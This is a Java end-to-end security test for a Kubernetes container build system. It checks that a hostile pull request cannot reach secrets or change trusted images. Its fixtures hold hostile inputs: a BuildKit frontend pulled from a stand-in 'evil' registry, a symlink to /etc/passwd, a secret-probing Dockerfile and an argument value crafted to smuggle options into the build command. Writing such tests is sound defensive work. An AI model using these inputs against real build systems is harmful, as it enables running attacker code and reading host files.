package dev.trestle.e2e;

import static dev.trestle.e2e.TestCluster.LIMIT;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.trestle.api.BackendBuild;
import dev.trestle.api.BackendBuildSpec;
import dev.trestle.api.BackendBuildSpecBuilder;
import dev.trestle.api.BaseImage;
import dev.trestle.api.BaseImageSpecBuilder;
import dev.trestle.api.BaseRef;
import dev.trestle.api.BaseUse;
import dev.trestle.api.BuildArg;
import dev.trestle.api.CacheBuilder;
import dev.trestle.api.GitSourceBuilder;
import dev.trestle.api.Leg;
import dev.trestle.api.LegFailure;
import dev.trestle.api.LegFailure.FailureClass;
import dev.trestle.api.Reason;
import dev.trestle.api.Source;
import dev.trestle.api.Trust;
import dev.trestle.cluster.SharesCluster;
import dev.trestle.core.Labels;
import dev.trestle.core.Names;
import dev.trestle.core.Platform;
import io.fabric8.kubernetes.api.model.NamespaceBuilder;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.ServiceAccountBuilder;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** Somebody proposes a change whose repository and build are hostile: nothing that is trusted is another than before. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@SharesCluster
class AttackerE2E {
    /** A step's way to ask whether the pod's account has left anything, and whether a daemon or a Secret can be had. */
    private static final String LOOK_AROUND = """
            FROM debian:12
            ARG NONCE
            ARG VALUE
            LABEL value="${VALUE}"
            RUN test ! -e /var/run/secrets && test ! -e /etc/trestle && test ! -e /run/buildkit/buildkitd.sock \
             && ! env | grep -q -e ^KUBERNETES -e ^DOCKER_CONFIG -e ^TRESTLE && echo "${NONCE}" > /made
            """;

    private final TestCluster cluster;
    private final TestRegistry registry = new TestRegistry();
    private final Expect expect;
    private final Source source;

    AttackerE2E() throws IOException, InterruptedException {
        cluster = TestCluster.open();
        expect = new Expect(cluster, registry);
        source = publish();
    }

    private Source publish() throws IOException, InterruptedException {
        var name = cluster.namespace() + "-hostile";
        var folder = Files.createDirectories(Path.of("target", "e2e", name));
        Files.writeString(folder.resolve("Dockerfile"), LOOK_AROUND);
        Files.writeString(folder.resolve("Dockerfile.frontend"), "# syntax=registry.example/evil:1\nFROM debian:12\n");
        Files.createSymbolicLink(folder.resolve("Dockerfile.link"), Path.of("../../../../../../etc/passwd"));
        return new Source(GitSourceBuilder.builder()
                .url(cluster.git().publish(folder, name))
                .ref("refs/heads/main")
                .build());
    }

    @AfterAll
    void close() {
        cluster.close();
    }

    @Test
    void nothingOfTheMainlineMoves() {
        makeAccount();
        cluster.apply(build("app", "Dockerfile", Trust.Trusted, "mainline"));
        expect.ready("app");
        var before = everything();
        assertThat(before.keySet()).containsExactlyInAnyOrder("app:v1", "app:app-linux-amd64", "cache:" + cacheTag());

        cluster.apply(build("app-pr7", "Dockerfile", Trust.Untrusted, "hostile"));
        expect.ready("app-pr7");

        assertThat(everything()).containsAllEntriesOf(before);
        assertThat(everything().keySet()).hasSize(3);
        assertThat(registry.label(cluster.repository("app"), "v1-pr7", "linux/amd64", "value"))
                .isEqualTo("hostile");
        assertThat(cluster.pods().labelled(Labels.BUILD, "app-pr7"))
                .isNotEmpty()
                .allSatisfy(pod -> assertThat(secretsAndTokensOf(pod)).isEmpty());
    }

    @Test
    void frontendsOfTheRepositorysChoiceAreNotRun() {
        makeAccount();
        cluster.apply(build("frontend", "Dockerfile.frontend", Trust.Untrusted, "x"));
        assertThat(failureOf("frontend").toString()).contains("is not an allowed gateway source");

        var spec = build("argument", "Dockerfile", Trust.Untrusted, "x").getSpec();
        cluster.apply(Builds.named(
                "argument", with(spec, List.of(new BuildArg("BUILDKIT_SYNTAX", "registry.example/evil:1")))));
        assertThat(failureOf("argument").toString()).contains("is not an allowed gateway source");
    }

    @Test
    void linksOutOfTheRepositoryAreNotFollowed() {
        makeAccount();
        cluster.apply(build("link", "Dockerfile.link", Trust.Untrusted, "x"));
        var failure = failureOf("link");
        assertThat(failure.failureClass()).isEqualTo(FailureClass.User);
        assertThat(failure.toString()).doesNotContain("root:");
    }

    @Test
    void namesOfOtherNamespacesAreNotFound() {
        var other = cluster.client()
                .resource(new NamespaceBuilder()
                        .withNewMetadata()
                        .withGenerateName("e2e-other-")
                        .endMetadata()
                        .build())
                .create();
        try {
            var base = new BaseImage();
            base.setMetadata(new ObjectMetaBuilder()
                    .withName("theirs")
                    .withNamespace(other.getMetadata().getName())
                    .build());
            base.setSpec(BaseImageSpecBuilder.builder()
                    .source(source)
                    .platforms(List.of("linux/amd64"))
                    .image(cluster.image("v1", "theirs"))
                    .suspend(true)
                    .build());
            cluster.client().resource(base).create();
            cluster.apply(Builds.named(
                    "across",
                    BackendBuildSpecBuilder.builder()
                            .source(source)
                            .base(BaseUse.of(new BaseRef("theirs"), "BASE"))
                            .legs(List.of(Leg.on("linux/amd64")))
                            .image(cluster.image("v1", "across"))
                            .build()));
            cluster.await(
                    "across",
                    found -> Conditions.find(found, "Ready")
                            .filter(ready -> ready.reason() == Reason.BaseNotFound)
                            .isPresent());
        } finally {
            cluster.client().resource(other).delete();
        }
    }

    @Test
    void valuesOfArgumentsArriveAsTheyAre() {
        var value = "$$(DOCKER_CONFIG) $(TRESTLE_BUILD_PLATFORM) a,push=false\" --output 'b'";
        cluster.apply(build("value", "Dockerfile", Trust.Trusted, value));
        expect.ready("value");
        assertThat(registry.label(cluster.repository("app"), "value", "linux/amd64", "value"))
                .isEqualTo(value);
    }

    /** Every tag that a trusted build has written here, and what it holds. */
    private Map<String, String> everything() {
        return Stream.of("app:v1", "app:app-linux-amd64", "cache:" + cacheTag())
                .collect(Collectors.toMap(tag -> tag, this::digest));
    }

    private String cacheTag() {
        return Names.cacheTag(cluster.namespace(), "app", Platform.parse("linux/amd64"));
    }

    private String digest(String tag) {
        var parts = tag.split(":", -1);
        return registry.digest(cluster.repository(parts[0]), parts[1]).orElse("nothing");
    }

    private LegFailure failureOf(String build) {
        return await().atMost(LIMIT)
                .until(
                        () -> Conditions.firstLeg(cluster.build(build)),
                        leg -> leg.isPresent() && leg.get().failure() != null)
                .map(leg -> leg.failure())
                .orElseThrow();
    }

    private static List<String> secretsAndTokensOf(Pod pod) {
        return pod.getSpec().getVolumes().stream()
                .filter(volume -> volume.getEmptyDir() == null)
                .map(volume -> volume.getName())
                .toList();
    }

    private BackendBuild build(String name, String dockerfile, Trust trust, String value) {
        var untrusted = trust == Trust.Untrusted;
        var tag = name.startsWith("app") ? "v1" : name;
        var args = List.of(cluster.nonce(), new BuildArg("VALUE", value));
        var spec = BackendBuildSpecBuilder.builder()
                .source(source)
                .dockerfile(dockerfile)
                .buildArgs(args)
                .legs(List.of(Leg.on("linux/amd64")))
                .image(cluster.image(tag, "app"))
                .cache(CacheBuilder.builder()
                        .repository(cluster.repository("cache"))
                        .write(untrusted ? false : null)
                        .build())
                .trust(trust)
                .pullRequest(untrusted ? 7 : null)
                .build();
        return Builds.named(name, spec);
    }

    private static BackendBuildSpec with(BackendBuildSpec spec, List<BuildArg> args) {
        return BackendBuildSpecBuilder.builder(spec).buildArgs(args).build();
    }

    private void makeAccount() {
        cluster.apply(new ServiceAccountBuilder()
                .withNewMetadata()
                .withName(Labels.UNTRUSTED_ACCOUNT)
                .endMetadata()
                .build());
    }
}
